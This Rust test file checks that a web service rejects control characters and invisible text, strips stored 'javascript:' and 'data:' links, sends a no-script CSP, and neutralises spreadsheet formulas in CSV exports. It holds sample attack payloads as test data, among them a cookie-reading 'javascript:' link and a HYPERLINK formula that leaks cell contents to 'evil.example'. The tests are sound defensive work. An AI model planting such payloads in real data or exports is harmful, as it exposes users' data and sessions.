//! Text, links and cells from users made safe (issue 14), each test written as the attack:
//! - a NUL or another control character in a note, a tag or a tenant name, or a text that is
//!   only whitespace or zero-width characters, is `BAD_USER_INPUT` naming the field on both
//!   databases (on PostgreSQL a NUL used to be `INTERNAL`), and nothing is written;
//! - a NUL in a lookup argument is not an internal error either;
//! - a `javascript:` link that reached the database (rows from before links were checked) is
//!   neither rendered by the share page, nor served by the API, nor exported; the share page
//!   sends a CSP that allows no script, `nosniff` and `no-referrer`;
//! - a CSV cell a spreadsheet would run as a formula is neutralised.

use crate::db_test;
use crate::helpers::*;
use entity::types::StringList;
use reqwest::header::AUTHORIZATION;
use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter};
use serde_json::{Value, json};

fn user_error(data: &Value, mutation: &str) -> (String, String) {
    let e = &data[mutation]["userErrors"][0];
    (
        e["code"].as_str().unwrap_or_default().to_string(),
        e["field"].as_array().map_or(String::new(), |f| {
            f.iter().filter_map(Value::as_str).collect::<Vec<_>>().join(".")
        }),
    )
}

async fn note_count(app: &TestApp, tenant_id: i64) -> u64 {
    entity::note::Entity::find()
        .filter(entity::note::Column::TenantId.eq(tenant_id))
        .count(&app.db)
        .await
        .unwrap()
}

db_test!(
    control_characters_and_invisible_text_are_refused_naming_the_field,
    |app| {
        let t = app.tenant().create().await;
        let note = |body: &str| {
            let input = json!({ "tenantSlug": t.slug, "controlId": "AdminMFAV2", "body": body });
            app.add_action_note(
                &t.operator,
                input,
                "note { id } userErrors { code field message }",
            )
            .data()
        };
        for body in [
            "before\u{0}after",
            "bell\u{7}",
            "\u{1b}[2J cleared",
            "   \n\t  ",
            "\u{200B}\u{200C}\u{FEFF}",
        ] {
            let data = note(body).await;
            assert_eq!(
                user_error(&data, "addActionNote"),
                ("BAD_USER_INPUT".to_string(), "input.body".to_string()),
                "{body:?}: {data}"
            );
        }
        assert_eq!(note_count(&app, t.id).await, 0, "nothing written");
        let ok = note("Two lines\r\nand\ta tab are fine").await;
        assert_eq!(ok["addActionNote"]["userErrors"], json!([]), "{ok}");
        assert_eq!(note_count(&app, t.id).await, 1);

        // A tag, a tenant name and a status comment, each with a NUL.
        let refused = [
            (
                "createTag",
                "input.name",
                app.create_tag(
                    &t.operator,
                    json!({ "tenantSlug": t.slug, "name": "q3\u{0}" }),
                    "tag { id } userErrors { code field }",
                ),
            ),
            (
                "updateTenant",
                "input.name",
                app.update_tenant(
                    &t.admin,
                    json!({ "slug": t.slug, "name": "Contoso\u{0}" }),
                    "tenant { name } userErrors { code field }",
                ),
            ),
            (
                "setActionStatus",
                "input.comment",
                app.set_action_status(
                    &t.operator,
                    json!({
                        "tenantSlug": t.slug, "controlId": "AdminMFAV2", "status": "PLANNED",
                        "comment": "see ticket\u{0}"
                    }),
                    "action { status } userErrors { code field }",
                ),
            ),
        ];
        for (mutation, field, op) in refused {
            let data = op.data().await;
            assert_eq!(
                user_error(&data, mutation),
                ("BAD_USER_INPUT".to_string(), field.to_string()),
                "{data}"
            );
        }
        let unchanged = app
            .query_action(&t.reader, &t.slug, "AdminMFAV2", "status")
            .payload()
            .await;
        assert_eq!(unchanged["status"], "TO_ADDRESS", "nothing written");

        // A NUL in a lookup is just a tenant that does not exist, never an internal error.
        let lookup = app
            .query_tenant(&t.reader, &format!("{}\u{0}", t.slug), "name")
            .await;
        let code = error_code(&lookup);
        assert!(
            lookup["data"]["tenant"].is_null() && code.as_deref() != Some("INTERNAL"),
            "{lookup}"
        );
    }
);

db_test!(
    a_stored_javascript_link_is_never_rendered_served_or_exported,
    |app| {
        let t = app.tenant().create().await;
        // Rows written before links were checked may hold anything.
        entity::control::Entity::update_many()
            .col_expr(
                entity::control::Column::ActionUrl,
                sea_orm::sea_query::Expr::value("javascript:alert(document.cookie)"),
            )
            .col_expr(
                entity::control::Column::LearnMoreUrls,
                sea_orm::sea_query::Expr::value(StringList(vec![
                    "JAVASCRIPT:alert(1)".into(),
                    "data:text/html,<script>alert(1)</script>".into(),
                    "https://learn.microsoft.com/ok".into(),
                ])),
            )
            .filter(entity::control::Column::Id.eq("AdminMFAV2"))
            .exec(&app.db)
            .await
            .unwrap();

        let api = app
            .query_action(&t.reader, &t.slug, "AdminMFAV2", "actionUrl learnMoreUrls")
            .payload()
            .await;
        assert_eq!(
            api,
            json!({ "actionUrl": null, "learnMoreUrls": ["https://learn.microsoft.com/ok"] })
        );

        let input = json!({ "tenantSlug": t.slug, "controlId": "AdminMFAV2", "platform": "LINK" });
        let link = app.create_share_link(&t.operator, input, "token").payload().await;
        let token = link["token"].as_str().expect("token");
        let page = app
            .client
            .get(format!("{}/share/{token}", app.address))
            .send()
            .await
            .unwrap();
        assert_eq!(page.status(), 200);
        let headers = page.headers().clone();
        let csp = headers["content-security-policy"].to_str().unwrap();
        assert!(csp.contains("default-src 'none'"), "{csp}");
        assert!(!csp.contains("script-src"), "no script may run: {csp}");
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert_eq!(headers["referrer-policy"], "no-referrer");
        let html = page.text().await.unwrap().to_lowercase();
        assert!(!html.contains("javascript:"), "{html}");
        assert!(!html.contains("data:"), "{html}");
        assert!(html.contains("https://learn.microsoft.com/ok"), "{html}");
        assert!(!html.contains("<script"), "{html}");

        let csv = app
            .client
            .get(format!("{}/export/{}/actions.csv", app.address, t.slug))
            .header(AUTHORIZATION, format!("Bearer {}", t.reader))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            !csv.to_lowercase().contains("javascript:"),
            "exports hold no such link"
        );
    }
);

db_test!(csv_cells_that_a_spreadsheet_would_run_are_neutralised, |app| {
    let t = app.tenant().create().await;
    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"Click")"#;
    let tag = app
        .create_tag(
            &t.operator,
            json!({ "tenantSlug": t.slug, "name": formula }),
            "tag { id } userErrors { code }",
        )
        .payload()
        .await;
    let tag_id = tag["tag"]["id"].clone();
    assert!(tag_id.is_string(), "a tag may be named anything visible: {tag}");
    let input = json!({ "tenantSlug": t.slug, "controlIds": ["AdminMFAV2"], "tagIds": [tag_id] });
    app.add_action_tags(&t.operator, input, "userErrors { code }")
        .data()
        .await;
    let csv = app
        .client
        .get(format!("{}/export/{}/actions.csv", app.address, t.slug))
        .header(AUTHORIZATION, format!("Bearer {}", t.reader))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    let tags = headers.iter().position(|h| h == "Tags").expect("Tags column");
    let id = headers.iter().position(|h| h == "Control ID").expect("id column");
    let row = reader
        .records()
        .map(|r| r.expect("record"))
        .find(|r| &r[id] == "AdminMFAV2")
        .expect("the tagged action");
    assert_eq!(&row[tags], format!("'{formula}"), "shown as text, never run");
    for record in csv::Reader::from_reader(csv.as_bytes()).records() {
        let record = record.expect("record");
        for (i, cell) in record.iter().enumerate() {
            let numeric = cell.parse::<f64>().is_ok();
            assert!(
                numeric || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "column {} holds a live formula: {cell:?}",
                headers[i]
            );
        }
    }
});
